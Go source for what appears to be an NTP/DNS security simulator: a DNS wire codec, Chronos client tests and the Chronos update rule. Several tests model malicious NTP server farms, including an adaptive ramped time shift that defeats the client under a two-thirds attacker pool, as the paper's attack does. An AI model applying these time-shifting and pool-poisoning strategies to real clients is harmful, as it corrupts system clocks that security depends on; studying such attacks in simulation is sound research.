		if rr.Type == TypeOPT {
			return uint16(rr.Class), true
		}
	}
	return 0, false
}

// SetEDNS adds (or updates) the OPT record advertising udpSize.
func (m *Message) SetEDNS(udpSize uint16) {
	for i, rr := range m.Additional {
		if rr.Type == TypeOPT {
			m.Additional[i].Class = Class(udpSize)
			return
		}
	}
	m.Additional = append(m.Additional, OPTRecord(udpSize))
}

// MaxPayload returns the usable response size for a query: the EDNS0
// advertised size if present (floored at 512), else the classic 512.
func (m *Message) MaxPayload() int {
	if sz, ok := m.EDNSSize(); ok {
		if sz < ClassicMaxUDP {
			return ClassicMaxUDP
		}
		return int(sz)
	}
	return ClassicMaxUDP
}

// Encode serialises the message with name compression.
func (m *Message) Encode() ([]byte, error) { return m.encode(newCompressor()) }

// EncodeNoCompress serialises the message without name compression (for
// size comparisons and tests).
func (m *Message) EncodeNoCompress() ([]byte, error) { return m.encode(nil) }

func (m *Message) encode(c *compressor) ([]byte, error) {
	buf := make([]byte, 12, 512)
	binary.BigEndian.PutUint16(buf[0:2], m.ID)
	var flags uint16
	if m.Response {
		flags |= 1 << 15
	}
	flags |= uint16(m.Opcode&0xF) << 11
	if m.Authoritative {
		flags |= 1 << 10
	}
	if m.Truncated {
		flags |= 1 << 9
	}
	if m.RecursionDesired {
		flags |= 1 << 8
	}
	if m.RecursionAvailable {
		flags |= 1 << 7
	}
	flags |= uint16(m.RCode & 0xF)
	binary.BigEndian.PutUint16(buf[2:4], flags)
	binary.BigEndian.PutUint16(buf[4:6], uint16(len(m.Questions)))
	binary.BigEndian.PutUint16(buf[6:8], uint16(len(m.Answers)))
	binary.BigEndian.PutUint16(buf[8:10], uint16(len(m.Authority)))
	binary.BigEndian.PutUint16(buf[10:12], uint16(len(m.Additional)))

	var err error
	for _, q := range m.Questions {
		buf, err = appendName(buf, q.Name, c)
		if err != nil {
			return nil, fmt.Errorf("question %q: %w", q.Name, err)
		}
		buf = be16(buf, uint16(q.Type))
		buf = be16(buf, uint16(q.Class))
	}
	for _, sec := range [][]RR{m.Answers, m.Authority, m.Additional} {
		for _, rr := range sec {
			buf, err = appendRR(buf, rr, c)
			if err != nil {
				return nil, fmt.Errorf("rr %q/%v: %w", rr.Name, rr.Type, err)
			}
		}
	}
	if len(buf) > 65535 {
		return nil, ErrTooBig
	}
	return buf, nil
}

func be16(buf []byte, v uint16) []byte { return append(buf, byte(v>>8), byte(v)) }
func be32(buf []byte, v uint32) []byte {
	return append(buf, byte(v>>24), byte(v>>16), byte(v>>8), byte(v))
}

func appendRR(buf []byte, rr RR, c *compressor) ([]byte, error) {
	var err error
	buf, err = appendName(buf, rr.Name, c)
	if err != nil {
		return nil, err
	}
	buf = be16(buf, uint16(rr.Type))
	buf = be16(buf, uint16(rr.Class))
	buf = be32(buf, rr.TTL)
	lenAt := len(buf)
	buf = be16(buf, 0) // rdlength placeholder

	switch rr.Type {
	case TypeA:
		buf = append(buf, rr.A[:]...)
	case TypeNS, TypeCNAME, TypePTR:
		// RFC 1035 permits compressing these targets.
		buf, err = appendName(buf, rr.Target, c)
		if err != nil {
			return nil, err
		}
	case TypeTXT:
		for _, chunk := range rr.TXT {
			if len(chunk) > 255 {
				return nil, fmt.Errorf("%w: txt chunk too long", ErrBadRData)
			}
			buf = append(buf, byte(len(chunk)))
			buf = append(buf, chunk...)
		}
	case TypeSOA:
		if rr.SOA == nil {
			return nil, fmt.Errorf("%w: nil SOA", ErrBadRData)
		}
		buf, err = appendName(buf, rr.SOA.MName, c)
		if err != nil {
			return nil, err
		}
		buf, err = appendName(buf, rr.SOA.RName, c)
		if err != nil {
			return nil, err
		}
		buf = be32(buf, rr.SOA.Serial)
		buf = be32(buf, rr.SOA.Refresh)
		buf = be32(buf, rr.SOA.Retry)
		buf = be32(buf, rr.SOA.Expire)
		buf = be32(buf, rr.SOA.Minimum)
	case TypeOPT:
		// Empty RDATA; Class already carries the UDP size.
	default:
		buf = append(buf, rr.Raw...)
	}
	rdlen := len(buf) - lenAt - 2
	if rdlen > 65535 {
		return nil, ErrTooBig
	}
	binary.BigEndian.PutUint16(buf[lenAt:lenAt+2], uint16(rdlen))
	return buf, nil
}

// Decode parses a DNS message. Trailing bytes beyond the counted records
// are ignored, as most real implementations do — the checksum-compensating
// spoofed fragments of the defragmentation attack depend on exactly this
// leniency.
//
// Decode copies RDATA, so the returned Message is independent of b and may
// outlive it. Parsers on hot paths that consume the message before their
// packet buffer is recycled should use DecodeBorrow instead.
func Decode(b []byte) (*Message, error) { return decode(b, false) }

// DecodeBorrow parses like Decode but in zero-copy mode: the Raw field of
// opaque (unmodeled) record types aliases b instead of copying it. Use it
// only when the Message is fully consumed before b is reused — e.g. a
// simnet UDP handler parsing its borrowed payload — and use Decode whenever
// any record may be retained (cached, forwarded to a later event). All
// other RDATA fields (names, TXT chunks, addresses) are fresh allocations
// in both modes.
func DecodeBorrow(b []byte) (*Message, error) { return decode(b, true) }

func decode(b []byte, borrow bool) (*Message, error) {
	if len(b) < 12 {
		return nil, ErrShortMessage
	}
	m := &Message{ID: binary.BigEndian.Uint16(b[0:2])}
	flags := binary.BigEndian.Uint16(b[2:4])
	m.Response = flags&(1<<15) != 0
	m.Opcode = uint8(flags >> 11 & 0xF)
	m.Authoritative = flags&(1<<10) != 0
	m.Truncated = flags&(1<<9) != 0
	m.RecursionDesired = flags&(1<<8) != 0
	m.RecursionAvailable = flags&(1<<7) != 0
	m.RCode = RCode(flags & 0xF)

	qd := int(binary.BigEndian.Uint16(b[4:6]))
	an := int(binary.BigEndian.Uint16(b[6:8]))
	ns := int(binary.BigEndian.Uint16(b[8:10]))
	ar := int(binary.BigEndian.Uint16(b[10:12]))

	off := 12
	var err error
	if qd > 0 {
		m.Questions = make([]Question, 0, sectionCap(qd))
	}
	for i := 0; i < qd; i++ {
		var q Question
		q.Name, off, err = readName(b, off)
		if err != nil {
			return nil, err
		}
		if off+4 > len(b) {
			return nil, ErrShortMessage
		}
		q.Type = Type(binary.BigEndian.Uint16(b[off : off+2]))
		q.Class = Class(binary.BigEndian.Uint16(b[off+2 : off+4]))
		off += 4
		m.Questions = append(m.Questions, q)
	}
	if m.Answers, off, err = readSection(b, off, an, borrow); err != nil {
		return nil, err
	}
	if m.Authority, off, err = readSection(b, off, ns, borrow); err != nil {
		return nil, err
	}
	if m.Additional, _, err = readSection(b, off, ar, borrow); err != nil {
		return nil, err
	}
	return m, nil
}

// sectionCap bounds the pre-sized capacity of a decoded section: the
// counts are attacker-controlled 16-bit values, so trust them only up to a
// modest prefix and let append grow beyond it.
func sectionCap(count int) int {
	if count > 64 {
		return 64
	}
	return count
}

// readSection parses count resource records starting at off.
func readSection(b []byte, off, count int, borrow bool) ([]RR, int, error) {
	if count == 0 {
		return nil, off, nil
	}
	rrs := make([]RR, 0, sectionCap(count))
	for i := 0; i < count; i++ {
		var rr RR
		var err error
		rr, off, err = readRR(b, off, borrow)
		if err != nil {
			return nil, 0, err
		}
		rrs = append(rrs, rr)
	}
	return rrs, off, nil
}

func readRR(b []byte, off int, borrow bool) (RR, int, error) {
	var rr RR
	var err error
	rr.Name, off, err = readName(b, off)
	if err != nil {
		return rr, 0, err
	}
	if off+10 > len(b) {
		return rr, 0, ErrShortMessage
	}
	rr.Type = Type(binary.BigEndian.Uint16(b[off : off+2]))
	rr.Class = Class(binary.BigEndian.Uint16(b[off+2 : off+4]))
	rr.TTL = binary.BigEndian.Uint32(b[off+4 : off+8])
	rdlen := int(binary.BigEndian.Uint16(b[off+8 : off+10]))
	off += 10
	if off+rdlen > len(b) {
		return rr, 0, ErrShortMessage
	}
	rdata := b[off : off+rdlen]
	switch rr.Type {
	case TypeA:
		if rdlen != 4 {
			return rr, 0, fmt.Errorf("%w: A rdlength %d", ErrBadRData, rdlen)
		}
		copy(rr.A[:], rdata)
	case TypeNS, TypeCNAME, TypePTR:
		rr.Target, _, err = readName(b, off)
		if err != nil {
			return rr, 0, err
		}
	case TypeTXT:
		for p := 0; p < rdlen; {
			l := int(rdata[p])
			p++
			if p+l > rdlen {
				return rr, 0, fmt.Errorf("%w: txt chunk", ErrBadRData)
			}
			rr.TXT = append(rr.TXT, string(rdata[p:p+l]))
			p += l
		}
	case TypeSOA:
		soa := &SOAData{}
		var p int
		soa.MName, p, err = readName(b, off)
		if err != nil {
			return rr, 0, err
		}
		soa.RName, p, err = readName(b, p)
		if err != nil {
			return rr, 0, err
		}
		if p+20 > len(b) || p+20 > off+rdlen {
			return rr, 0, fmt.Errorf("%w: soa fixed fields", ErrBadRData)
		}
		soa.Serial = binary.BigEndian.Uint32(b[p : p+4])
		soa.Refresh = binary.BigEndian.Uint32(b[p+4 : p+8])
		soa.Retry = binary.BigEndian.Uint32(b[p+8 : p+12])
		soa.Expire = binary.BigEndian.Uint32(b[p+12 : p+16])
		soa.Minimum = binary.BigEndian.Uint32(b[p+16 : p+20])
		rr.SOA = soa
	case TypeOPT:
		// Class carries the UDP size; RDATA options are ignored.
	default:
		if borrow {
			rr.Raw = rdata
		} else {
			rr.Raw = append([]byte(nil), rdata...)
		}
	}
	return rr, off + rdlen, nil
}
