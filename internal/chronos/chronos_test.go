package chronos

import (
	"math/rand"
	"sort"
	"testing"
	"testing/quick"
	"time"

	"chronosntp/internal/clock"
	"chronosntp/internal/dnsresolver"
	"chronosntp/internal/dnsserver"
	"chronosntp/internal/ntpserver"
	"chronosntp/internal/simnet"
)

var (
	rootIP     = simnet.IPv4(198, 41, 0, 4)
	ntpOrgIP   = simnet.IPv4(198, 51, 100, 10)
	resolverIP = simnet.IPv4(10, 0, 0, 53)
	clientIP   = simnet.IPv4(10, 0, 0, 1)
)

// dnsRig wires the full hierarchy: root → ntp.org → pool zone over a farm
// of real NTP servers, a caching resolver, and a Chronos client host.
type dnsRig struct {
	net    *simnet.Network
	pool   *dnsserver.PoolZone
	client *Client
}

func newDNSRig(t *testing.T, seed int64, farmSize int, cfg Config) *dnsRig {
	t.Helper()
	n := simnet.New(simnet.Config{Seed: seed})

	_, ips, err := ntpserver.Farm(n, simnet.IPv4(203, 0, 0, 1), farmSize, time.Millisecond, 5)
	if err != nil {
		t.Fatal(err)
	}

	rootHost, _ := n.AddHost(rootIP)
	rootSrv, _ := dnsserver.New(rootHost)
	rootZone := dnsserver.NewDelegatingZone("")
	rootZone.Delegate(dnsserver.Delegation{
		Child: "ntp.org", NSTTL: 3600,
		Glue: []dnsserver.NSGlue{{Name: "ns1.ntp.org", IP: ntpOrgIP, TTL: 3600}},
	})
	_ = rootSrv.AddZone("", rootZone)

	ntpHost, _ := n.AddHost(ntpOrgIP)
	ntpSrv, _ := dnsserver.New(ntpHost)
	pool, err := dnsserver.NewPoolZone(dnsserver.PoolConfig{Name: "pool.ntp.org"}, n.Now(), ips)
	if err != nil {
		t.Fatal(err)
	}
	_ = ntpSrv.AddZone("pool.ntp.org", pool)

	resHost, _ := n.AddHost(resolverIP)
	res, err := dnsresolver.New(resHost, dnsresolver.Config{}, []dnsresolver.Hint{
		{Zone: "", Addr: simnet.Addr{IP: rootIP, Port: 53}},
	})
	if err != nil {
		t.Fatal(err)
	}

	ch, _ := n.AddHost(clientIP)
	stub := dnsresolver.NewStub(ch, res.Addr(), 0)
	cli := New(ch, &clock.Clock{}, stub, cfg)
	return &dnsRig{net: n, pool: pool, client: cli}
}

func TestPoolGeneration24Queries(t *testing.T) {
	r := newDNSRig(t, 91, 500, Config{})
	var buildErr error
	built := false
	r.client.BuildPool(func(err error) { buildErr, built = err, true })
	r.net.RunFor(25 * time.Hour)
	if !built {
		t.Fatal("pool generation never completed")
	}
	if buildErr != nil {
		t.Fatal(buildErr)
	}
	size := r.client.PoolSize()
	if size < 80 || size > 96 {
		t.Errorf("pool size = %d, want ~96 (24 queries x 4 records, minus collisions)", size)
	}
	if got := r.client.Stats().PoolQueries; got != 24 {
		t.Errorf("pool queries = %d, want 24", got)
	}
	// Every entry carries the index of the query that contributed it.
	for _, e := range r.client.Pool() {
		if e.QueryIdx < 1 || e.QueryIdx > 24 {
			t.Fatalf("bad QueryIdx %d", e.QueryIdx)
		}
	}
}

func TestPoolTargetStopsEarly(t *testing.T) {
	r := newDNSRig(t, 92, 500, Config{PoolTarget: 10})
	r.client.BuildPool(nil)
	r.net.RunFor(25 * time.Hour)
	if got := r.client.PoolSize(); got != 10 {
		t.Errorf("pool size = %d, want capped at 10", got)
	}
}

func TestDoubleBuildRejected(t *testing.T) {
	r := newDNSRig(t, 93, 20, Config{PoolQueries: 1})
	r.client.BuildPool(nil)
	var second error
	r.client.BuildPool(func(err error) { second = err })
	r.net.RunFor(time.Minute)
	if second == nil {
		t.Error("second BuildPool accepted")
	}
}

func TestEmptyPoolReported(t *testing.T) {
	// Client pointed at a resolver with no route to any pool: every query
	// fails, pool ends empty.
	n := simnet.New(simnet.Config{Seed: 94})
	resHost, _ := n.AddHost(resolverIP)
	res, err := dnsresolver.New(resHost, dnsresolver.Config{Timeout: time.Second, Retries: 1},
		[]dnsresolver.Hint{{Zone: "", Addr: simnet.Addr{IP: rootIP, Port: 53}}}) // dead root
	if err != nil {
		t.Fatal(err)
	}
	ch, _ := n.AddHost(clientIP)
	stub := dnsresolver.NewStub(ch, res.Addr(), 0)
	cli := New(ch, &clock.Clock{}, stub, Config{PoolQueries: 2, PoolQueryInterval: time.Minute})
	var buildErr error
	cli.BuildPool(func(err error) { buildErr = err })
	n.RunFor(time.Hour)
	if buildErr != ErrPoolEmpty {
		t.Errorf("err = %v, want ErrPoolEmpty", buildErr)
	}
}

func TestHonestPoolSyncs(t *testing.T) {
	n := simnet.New(simnet.Config{Seed: 95})
	_, ips, err := ntpserver.Farm(n, simnet.IPv4(203, 0, 0, 1), 96, 2*time.Millisecond, 5)
	if err != nil {
		t.Fatal(err)
	}
	ch, _ := n.AddHost(clientIP)
	cli := New(ch, clock.New(n.Now(), 20*time.Millisecond, 0), nil, Config{SyncInterval: 16 * time.Second})
	if err := cli.SeedPool(ips); err != nil {
		t.Fatal(err)
	}
	n.RunFor(10 * time.Minute)
	if cli.Stats().Updates == 0 {
		t.Fatal("no updates applied")
	}
	off := cli.Offset()
	if off < -10*time.Millisecond || off > 10*time.Millisecond {
		t.Errorf("offset = %v, want ~0", off)
	}
}

func TestMinorityAttackerContained(t *testing.T) {
	// Attacker controls ~20% of the pool with a large constant shift.
	// Chronos must keep the client within a few ms of true time.
	n := simnet.New(simnet.Config{Seed: 96})
	_, honest, err := ntpserver.Farm(n, simnet.IPv4(203, 0, 0, 1), 80, 2*time.Millisecond, 5)
	if err != nil {
		t.Fatal(err)
	}
	_, evil, err := ntpserver.MaliciousFarm(n, simnet.IPv4(66, 0, 0, 1), 20, ntpserver.ConstantShift(10*time.Second))
	if err != nil {
		t.Fatal(err)
	}
	ch, _ := n.AddHost(clientIP)
	cli := New(ch, &clock.Clock{}, nil, Config{SyncInterval: 16 * time.Second})
	if err := cli.SeedPool(append(honest, evil...)); err != nil {
		t.Fatal(err)
	}
	n.RunFor(time.Hour)
	off := cli.Offset()
	if off < -20*time.Millisecond || off > 20*time.Millisecond {
		t.Errorf("offset with 20%% attacker = %v, want ~0", off)
	}
}

func TestSupermajorityAttackerWins(t *testing.T) {
	// The paper's end state: 44 benign + 89 malicious pool (attacker
	// ≥ 2/3). An adaptive attacker ramping its shift below the client's
	// acceptance bound drags the clock away — through the normal path
	// when it captures ≥ 2m/3 of a sample, and through panic mode
	// otherwise.
	n := simnet.New(simnet.Config{Seed: 97})
	start := n.Now()
	_, honest, err := ntpserver.Farm(n, simnet.IPv4(203, 0, 0, 1), 44, 2*time.Millisecond, 5)
	if err != nil {
		t.Fatal(err)
	}
	syncInterval := 16 * time.Second
	ramp := ntpserver.ShiftFunc(func(now time.Time) time.Duration {
		rounds := int64(now.Sub(start) / syncInterval)
		return time.Duration(rounds) * 20 * time.Millisecond // < ErrBound per round
	})
	_, evil, err := ntpserver.MaliciousFarm(n, simnet.IPv4(66, 0, 0, 1), 89, ramp)
	if err != nil {
		t.Fatal(err)
	}
	ch, _ := n.AddHost(clientIP)
	cli := New(ch, &clock.Clock{}, nil, Config{SyncInterval: syncInterval})
	if err := cli.SeedPool(append(honest, evil...)); err != nil {
		t.Fatal(err)
	}
	n.RunFor(2 * time.Hour)
	off := cli.Offset()
	if off < 100*time.Millisecond {
		t.Errorf("offset under 2/3 attacker = %v, want > 100ms (the paper's attack goal)", off)
	}
}

func TestPanicModeRecoversHonestPool(t *testing.T) {
	// Force condition failures (one noisy server answering wildly inside
	// every sample is unlikely; instead: attacker with ~30% makes C1 fail
	// often). Panic mode must restore the honest average.
	n := simnet.New(simnet.Config{Seed: 98})
	_, honest, err := ntpserver.Farm(n, simnet.IPv4(203, 0, 0, 1), 66, 2*time.Millisecond, 5)
	if err != nil {
		t.Fatal(err)
	}
	_, evil, err := ntpserver.MaliciousFarm(n, simnet.IPv4(66, 0, 0, 1), 30, ntpserver.ConstantShift(5*time.Second))
	if err != nil {
		t.Fatal(err)
	}
	ch, _ := n.AddHost(clientIP)
	cli := New(ch, &clock.Clock{}, nil, Config{SyncInterval: 16 * time.Second})
	if err := cli.SeedPool(append(honest, evil...)); err != nil {
		t.Fatal(err)
	}
	n.RunFor(2 * time.Hour)
	if cli.Offset() > 50*time.Millisecond || cli.Offset() < -50*time.Millisecond {
		t.Errorf("offset = %v, want contained", cli.Offset())
	}
	// With 30% malicious, some rounds must have failed into resample or
	// panic, and the client must still have made progress.
	st := cli.Stats()
	if st.Resamples == 0 {
		t.Error("expected some resamples with a 30% attacker")
	}
	if st.Updates+st.PanicUpdates == 0 {
		t.Error("no clock updates at all")
	}
}

func TestPoolPolicyRejectsOversizedResponse(t *testing.T) {
	// §V mitigation inside the client: a pool response with 89 records is
	// discarded when MaxAddrsPerResponse is 4.
	n := simnet.New(simnet.Config{Seed: 99})
	srvHost, _ := n.AddHost(ntpOrgIP)
	srv, _ := dnsserver.New(srvHost)
	inventory := make([]simnet.IP, 200)
	for i := range inventory {
		inventory[i] = simnet.IPv4(66, 0, byte(i/200), byte(i%200))
	}
	// A "malicious" pool zone answering with 89 records at once.
	pool, err := dnsserver.NewPoolZone(dnsserver.PoolConfig{Name: "pool.ntp.org", PerResponse: 89, TTL: 7 * 86400}, n.Now(), inventory)
	if err != nil {
		t.Fatal(err)
	}
	_ = srv.AddZone("pool.ntp.org", pool)
	resHost, _ := n.AddHost(resolverIP)
	res, err := dnsresolver.New(resHost, dnsresolver.Config{EDNSSize: 4096}, []dnsresolver.Hint{
		{Zone: "pool.ntp.org", Addr: simnet.Addr{IP: ntpOrgIP, Port: 53}},
	})
	if err != nil {
		t.Fatal(err)
	}
	ch, _ := n.AddHost(clientIP)
	stub := dnsresolver.NewStub(ch, res.Addr(), 0)

	cli := New(ch, &clock.Clock{}, stub, Config{
		PoolQueries: 2, PoolQueryInterval: time.Minute,
		Policy: PoolPolicy{MaxAddrsPerResponse: 4},
	})
	var buildErr error
	cli.BuildPool(func(err error) { buildErr = err })
	n.RunFor(time.Hour)
	if buildErr != ErrPoolEmpty {
		t.Errorf("buildErr = %v, want ErrPoolEmpty (all responses rejected)", buildErr)
	}
	if cli.Stats().PolicyDiscards == 0 {
		t.Error("no policy discards recorded")
	}
}

func TestPoolPolicyRejectsHighTTL(t *testing.T) {
	n := simnet.New(simnet.Config{Seed: 100})
	srvHost, _ := n.AddHost(ntpOrgIP)
	srv, _ := dnsserver.New(srvHost)
	inventory := make([]simnet.IP, 50)
	for i := range inventory {
		inventory[i] = simnet.IPv4(66, 0, 113, byte(i+1))
	}
	pool, err := dnsserver.NewPoolZone(dnsserver.PoolConfig{Name: "pool.ntp.org", TTL: 7 * 86400}, n.Now(), inventory)
	if err != nil {
		t.Fatal(err)
	}
	_ = srv.AddZone("pool.ntp.org", pool)
	resHost, _ := n.AddHost(resolverIP)
	res, _ := dnsresolver.New(resHost, dnsresolver.Config{}, []dnsresolver.Hint{
		{Zone: "pool.ntp.org", Addr: simnet.Addr{IP: ntpOrgIP, Port: 53}},
	})
	ch, _ := n.AddHost(clientIP)
	stub := dnsresolver.NewStub(ch, res.Addr(), 0)
	cli := New(ch, &clock.Clock{}, stub, Config{
		PoolQueries: 1,
		Policy:      PoolPolicy{MaxTTL: 24 * time.Hour},
	})
	var buildErr error
	cli.BuildPool(func(err error) { buildErr = err })
	n.RunFor(time.Hour)
	if buildErr != ErrPoolEmpty {
		t.Errorf("buildErr = %v, want ErrPoolEmpty", buildErr)
	}
}

func TestSeedPoolValidation(t *testing.T) {
	n := simnet.New(simnet.Config{Seed: 101})
	ch, _ := n.AddHost(clientIP)
	cli := New(ch, &clock.Clock{}, nil, Config{})
	if err := cli.SeedPool(nil); err != ErrPoolEmpty {
		t.Errorf("err = %v, want ErrPoolEmpty", err)
	}
	if err := cli.SeedPool([]simnet.IP{simnet.IPv4(1, 2, 3, 4)}); err != nil {
		t.Fatal(err)
	}
	if err := cli.SeedPool([]simnet.IP{simnet.IPv4(1, 2, 3, 5)}); err != ErrAlreadyBuilt {
		t.Errorf("err = %v, want ErrAlreadyBuilt", err)
	}
	if !cli.PoolBuilt() {
		t.Error("PoolBuilt false after seed")
	}
}

func TestStopHaltsRounds(t *testing.T) {
	n := simnet.New(simnet.Config{Seed: 102})
	_, ips, _ := ntpserver.Farm(n, simnet.IPv4(203, 0, 0, 1), 20, 0, 0)
	ch, _ := n.AddHost(clientIP)
	cli := New(ch, &clock.Clock{}, nil, Config{SyncInterval: 16 * time.Second})
	_ = cli.SeedPool(ips)
	n.RunFor(time.Minute)
	cli.Stop()
	rounds := cli.Stats().Rounds
	n.RunFor(10 * time.Minute)
	if cli.Stats().Rounds != rounds {
		t.Error("rounds continued after Stop")
	}
}

func TestTrimmedUnit(t *testing.T) {
	xs := []time.Duration{5, 1, 9, 3, 7}
	got := trimmed(xs, 1)
	want := []time.Duration{3, 5, 7}
	if len(got) != 3 {
		t.Fatalf("len = %d", len(got))
	}
	for i := range want {
		if got[i] != want[i] {
			t.Errorf("trimmed[%d] = %v, want %v", i, got[i], want[i])
		}
	}
	// Trim too large: returns the sorted input untouched.
	if got := trimmed(xs, 3); len(got) != 5 {
		t.Errorf("over-trim returned %d elements", len(got))
	}
	if mean(nil) != 0 {
		t.Error("mean(nil) != 0")
	}
	if absDur(-time.Second) != time.Second || absDur(time.Second) != time.Second {
		t.Error("absDur broken")
	}
}

// Property: with at most d attacker samples among m, the trimmed mean
// (trim d) stays within the honest samples' range — the robustness
// invariant Chronos' security proof rests on.
func TestTrimmedMeanRobustnessProperty(t *testing.T) {
	f := func(seed int64) bool {
		rng := rand.New(rand.NewSource(seed))
		m := 6 + rng.Intn(12) // 6..17
		d := m / 3
		k := rng.Intn(d + 1) // attacker samples: 0..d
		honest := make([]time.Duration, m-k)
		for i := range honest {
			honest[i] = time.Duration(rng.Intn(50)) * time.Millisecond
		}
		attacker := make([]time.Duration, k)
		for i := range attacker {
			// Arbitrary adversarial values, positive or negative, huge.
			attacker[i] = time.Duration(rng.Int63n(int64(2*time.Hour))) - time.Hour
		}
		all := append(append([]time.Duration(nil), honest...), attacker...)
		surv := trimmed(all, d)
		avg := mean(surv)

		lo, hi := honest[0], honest[0]
		for _, h := range honest[1:] {
			if h < lo {
				lo = h
			}
			if h > hi {
				hi = h
			}
		}
		return avg >= lo && avg <= hi
	}
	if err := quick.Check(f, &quick.Config{MaxCount: 400}); err != nil {
		t.Error(err)
	}
}

// Property: with at least m−d attacker samples all equal to v, the
// surviving set is entirely attacker-controlled and the trimmed mean
// equals v — the capture condition the paper's pool poisoning reaches.
func TestTrimmedMeanCaptureProperty(t *testing.T) {
	f := func(seed int64) bool {
		rng := rand.New(rand.NewSource(seed))
		m := 9 + 3*rng.Intn(4) // 9, 12, 15, 18
		d := m / 3
		k := m - d + rng.Intn(d+1) // attacker: m-d .. m
		if k > m {
			k = m
		}
		v := time.Duration(rng.Int63n(int64(time.Hour)))
		all := make([]time.Duration, 0, m)
		for i := 0; i < k; i++ {
			all = append(all, v)
		}
		for i := k; i < m; i++ {
			all = append(all, time.Duration(rng.Intn(10))*time.Millisecond)
		}
		rng.Shuffle(len(all), func(i, j int) { all[i], all[j] = all[j], all[i] })
		surv := trimmed(all, d)
		// All survivors equal v iff attacker fully captured the window.
		sorted := append([]time.Duration(nil), all...)
		sort.Slice(sorted, func(i, j int) bool { return sorted[i] < sorted[j] })
		captured := true
		for _, s := range surv {
			if s != v {
				captured = false
			}
		}
		if k >= m-d && v > 10*time.Millisecond {
			return captured && mean(surv) == v
		}
		return true
	}
	if err := quick.Check(f, &quick.Config{MaxCount: 300}); err != nil {
		t.Error(err)
	}
}

func TestStringer(t *testing.T) {
	n := simnet.New(simnet.Config{Seed: 103})
	ch, _ := n.AddHost(clientIP)
	cli := New(ch, &clock.Clock{}, nil, Config{})
	if cli.String() == "" {
		t.Error("String empty")
	}
}
