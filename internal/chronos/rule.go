package chronos

import (
	"math/rand"
	"time"
)

// This file isolates the Chronos clock-update *decision procedure* from the
// packet plumbing: Rule is the pure per-attempt acceptance test (trim, C1,
// C2) and panic-mode computation, Round is the re-sample/panic escalation
// state machine. The wire-driven Client delegates to both, and the
// long-horizon shift engine (internal/shiftsim) drives the very same code
// at round granularity — so "the round loop the closed-form bound models"
// and "the round loop the simulation runs" are one implementation.

// FailReason classifies why one sampling attempt was rejected.
type FailReason int

// Attempt failure reasons.
const (
	FailNone         FailReason = iota
	FailInsufficient            // fewer replies than MinReplies, or too few to trim
	FailC1                      // survivors spread over more than 2ω
	FailC2                      // |survivor average| exceeds ErrBound
	FailQuorum                  // largest agreeing cluster smaller than MinSources
)

// String implements fmt.Stringer.
func (r FailReason) String() string {
	switch r {
	case FailNone:
		return "ok"
	case FailInsufficient:
		return "insufficient-replies"
	case FailC1:
		return "c1-spread"
	case FailC2:
		return "c2-errbound"
	case FailQuorum:
		return "quorum-insufficient"
	default:
		return "FailReason(?)"
	}
}

// Verdict is the outcome of applying the update rule to one attempt's
// offset samples.
type Verdict struct {
	OK     bool          // both C1 and C2 hold; Update may be applied
	Update time.Duration // survivor average (the clock correction)
	Span   time.Duration // survivor max − min (the C1 statistic)
	Reason FailReason    // FailNone when OK
}

// Rule is the pure Chronos per-attempt decision procedure, detached from
// any network. Construct it with NewRule so the NDSS'18 defaults apply.
type Rule struct {
	cfg Config
}

// NewRule builds a Rule with cfg's defaults resolved.
func NewRule(cfg Config) Rule { return Rule{cfg: cfg.withDefaults()} }

// Config returns the effective configuration (defaults applied).
func (r Rule) Config() Config { return r.cfg }

// CaptureNeed returns m − d: the number of attacker samples from which
// every trimmed-mean survivor is attacker-controlled (the hypergeometric
// threshold the closed-form analysis uses).
func (r Rule) CaptureNeed() int { return r.cfg.SampleSize - r.cfg.Trim }

// SampleIndices draws one round's sample: min(SampleSize, poolSize)
// distinct pool indices chosen uniformly at random. Both the simnet
// chronos.Client and the real-socket wirenet.Syncer draw through this
// method, so for one seed the two consume the RNG identically and sample
// the same server sequence — the property the transport-conformance
// tests pin.
func (r Rule) SampleIndices(rng *rand.Rand, poolSize int) []int {
	m := r.cfg.SampleSize
	if m > poolSize {
		m = poolSize
	}
	return rng.Perm(poolSize)[:m]
}

// Evaluate applies the Chronos update rule to one attempt's samples:
// discard attempts with too few replies, trim d from each end, then accept
// the survivors' average iff (C1) they lie within 2ω of each other and
// (C2) the average is within ErrBound of the local clock.
func (r Rule) Evaluate(offsets []time.Duration) Verdict {
	if r.cfg.MinSources > 0 {
		return r.evaluateQuorum(offsets)
	}
	if len(offsets) < r.cfg.MinReplies || len(offsets) <= 2*r.cfg.Trim {
		return Verdict{Reason: FailInsufficient}
	}
	surv := trimmed(offsets, r.cfg.Trim)
	span := surv[len(surv)-1] - surv[0]
	avg := mean(surv)
	switch {
	case span > 2*r.cfg.Omega:
		return Verdict{Update: avg, Span: span, Reason: FailC1}
	case absDur(avg) > r.cfg.ErrBound:
		return Verdict{Update: avg, Span: span, Reason: FailC2}
	default:
		return Verdict{OK: true, Update: avg, Span: span}
	}
}

// evaluateQuorum is the chrony-style minsources acceptance test E11
// contrasts against C1/C2: sort the samples, find the largest cluster
// agreeing within 2ω, and accept its average iff it holds at least
// MinSources members. There is no trim and no absolute error bound —
// an attacker who musters MinSources agreeing sources wins outright,
// while a KoD-denial attacker who starves the client below MinSources
// replies wins the other way. Span reports the winning cluster's
// spread.
func (r Rule) evaluateQuorum(offsets []time.Duration) Verdict {
	if len(offsets) < r.cfg.MinSources {
		return Verdict{Reason: FailInsufficient}
	}
	sorted := trimmed(offsets, 0) // sorts in place, like the classic path
	best, bestLo := 1, 0
	for lo, hi := 0, 0; hi < len(sorted); hi++ {
		for sorted[hi]-sorted[lo] > 2*r.cfg.Omega {
			lo++
		}
		if hi-lo+1 > best {
			best, bestLo = hi-lo+1, lo
		}
	}
	cluster := sorted[bestLo : bestLo+best]
	avg := mean(cluster)
	span := cluster[len(cluster)-1] - cluster[0]
	if best < r.cfg.MinSources {
		return Verdict{Update: avg, Span: span, Reason: FailQuorum}
	}
	return Verdict{OK: true, Update: avg, Span: span}
}

// PanicTrim returns how many samples panic mode discards from each end of
// a full-pool sweep of n replies: the top and bottom thirds, ⌊n/3⌋ each.
func PanicTrim(n int) int { return n / 3 }

// PanicUpdate computes the panic-mode correction from a full-pool sweep:
// trim the top and bottom thirds and trust the middle third's average,
// with no C1/C2 checks. ok is false when fewer than 3 replies arrived
// (nothing survives the trim).
func (r Rule) PanicUpdate(offsets []time.Duration) (update time.Duration, ok bool) {
	if len(offsets) < 3 {
		return 0, false
	}
	return mean(trimmed(offsets, PanicTrim(len(offsets)))), true
}

// Action is the escalation decision after one attempt.
type Action int

// Escalation actions.
const (
	Apply    Action = iota // accept: step the clock by Verdict.Update
